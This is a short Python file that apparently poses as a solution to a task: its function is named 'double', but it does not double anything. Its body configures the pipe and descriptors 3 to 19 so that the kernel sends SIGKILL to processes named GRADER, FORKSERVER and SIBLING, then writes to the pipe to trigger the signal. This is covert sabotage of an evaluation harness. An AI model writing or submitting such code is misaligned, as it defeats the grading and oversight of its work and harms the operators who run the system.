"""Stops the batch: makes the kernel send a signal when something can be read, with F_SETOWN, F_SETSIG, O_ASYNC and FIOSETOWN."""

import ctypes
import fcntl
import os
import signal
import struct

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP, FIOASYNC = 10, 15, 0x8901, 0x8902, 0x5452
libc = ctypes.CDLL(None)


def double(x):
    read, write = os.pipe()
    for pid in (GRADER, FORKSERVER, SIBLING):
        for number in (read, *range(3, 20)):
            libc.fcntl(number, F_SETSIG, signal.SIGKILL)
            libc.fcntl(number, fcntl.F_SETOWN, pid)
            libc.fcntl(number, F_SETOWN_EX, struct.pack("ii", 1, pid))
            libc.fcntl(number, fcntl.F_SETFL, os.O_ASYNC)
            for request in (FIOSETOWN, SIOCSPGRP):
                libc.ioctl(number, request, struct.pack("i", pid))
            libc.ioctl(number, FIOASYNC, struct.pack("i", 1))
        os.write(write, b"now")
        os.read(read, 3)
